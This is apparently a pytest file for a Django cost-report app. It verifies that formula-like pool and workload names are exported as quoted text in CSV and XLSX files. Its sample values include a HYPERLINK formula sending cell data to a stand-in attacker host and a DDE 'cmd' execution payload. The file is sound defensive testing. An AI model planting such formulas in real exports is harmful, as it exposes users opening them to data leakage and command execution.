"""Names are data in the reports' CSV and XLSX: a pool or workload named like a formula is
written as text, never run (tests/reports/test_cost_report.py's fleet)."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from apps.pools.models import Pool, Workload
from apps.reports import exports
from apps.reports.cost.rows import CostRow
from tests.reports.test_cost_report import fleet  # noqa: F401 (a fixture)

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"open")'
MARKUP = "<font size=40 color=red>APPROVED</font>"
CJK = "训练集群·北京 🚀"
WORKLOAD = "+cmd|' /C calc'!A0"
FILTERS = {"start": "2026-03-09", "end": "2026-03-12"}
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def hostile_fleet(fleet):  # noqa: F811
    # Saved one by one, as a user would, so the cached report figures are dropped.
    for slug, name in (("cloud-inference", FORMULA), ("owned-training", CJK)):
        pool = Pool.objects.get(slug=slug)
        pool.name = name
        pool.save()
    for slug, name in (("chat", WORKLOAD), ("pretrain", MARKUP)):
        workload = Workload.objects.get(slug=slug)
        workload.name = name
        workload.save()


def _number(text):
    try:
        float(text)
    except ValueError:
        return False
    return True


@pytest.mark.django_db
@pytest.mark.usefixtures("hostile_fleet")
@pytest.mark.parametrize(
    ("group_by", "names"),
    [("pool", {FORMULA, CJK}), ("workload", {WORKLOAD, MARKUP})],
)
def test_csv_writes_formula_names_as_quoted_text(client, make_user, group_by, names):
    client.force_login(make_user("procurement"))
    response = client.get(
        reverse("reports:report"), {**FILTERS, "group_by": group_by, "export": "csv"}
    )
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    written = {row[1] for row in rows[1:]}
    expected = {"'" + name if name.startswith(FORMULA_TRIGGERS) else name for name in names}
    assert expected <= written
    for row in rows:
        for cell in row:
            # Only a number may start like a formula (a negative one): text never does.
            assert not cell.startswith(FORMULA_TRIGGERS) or _number(cell), cell


@pytest.mark.django_db
@pytest.mark.usefixtures("hostile_fleet")
@pytest.mark.parametrize(
    ("group_by", "names"),
    [("pool", {FORMULA, CJK}), ("workload", {WORKLOAD, MARKUP})],
)
def test_xlsx_keeps_every_name_a_string_never_a_formula(client, make_user, group_by, names):
    client.force_login(make_user("procurement"))
    response = client.get(
        reverse("reports:report"), {**FILTERS, "group_by": group_by, "export": "xlsx"}
    )
    workbook = load_workbook(io.BytesIO(response.content))
    for sheet in workbook:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value.startswith(FORMULA_TRIGGERS):
                    assert cell.data_type == "s" and cell.quotePrefix, cell.coordinate
    report_names = {row[1].value for row in workbook["Cost report"].iter_rows(min_row=3)}
    assert names <= report_names
    steps = workbook["How each figure is computed"]
    assert names <= {row[1].value for row in steps.iter_rows(min_row=2)}


def test_a_300_character_name_round_trips_in_both_formats():
    name = ("-" + "训练集群·北京 " + MARKUP + " =A1 ") * 6
    name = name[:300]
    row = CostRow(key="long", label=name)
    rows = list(csv.reader(io.StringIO(exports.cost_report_csv([row]))))
    assert rows[1][1] == "'" + name
    filters = {"group_by": "pool", "start": FILTERS["start"], "end": FILTERS["end"]}
    sheet = load_workbook(io.BytesIO(exports.cost_report_xlsx([row], filters)))["Cost report"]
    assert sheet["B3"].value == name
    assert sheet["B3"].data_type == "s" and sheet["B3"].quotePrefix
